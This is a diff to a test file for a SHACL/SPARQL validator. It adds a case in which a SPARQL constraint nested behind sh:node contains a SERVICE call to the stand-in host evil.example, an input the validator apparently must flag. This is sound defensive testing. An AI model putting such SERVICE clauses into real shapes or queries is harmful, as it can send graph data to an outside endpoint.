@@ -138,6 +138,8 @@ def test_a_sparql_constraint_behind_sh_node_is_not_dropped(tmp_path):
      "refers to itself"),
     ("""ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:sparql [ sh:select
         "SELECT $this WHERE { SERVICE <http://evil.example/> { $this ?p ?o } }" ] .""", "SERVICE"),
+    ("""ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:node ex:Inner . ex:Inner sh:sparql [ sh:select
+        "SELECT $this WHERE { SERVICE <http://evil.example/> { $this ?p ?o } }" ] .""", "SERVICE"),
     ("""ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:sparql [ sh:select
         "SELECT $this WHERE { $this ?p ?o MINUS { $this a ?c } }" ] .""", "MINUS"),
     ("""ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:sparql [ sh:select
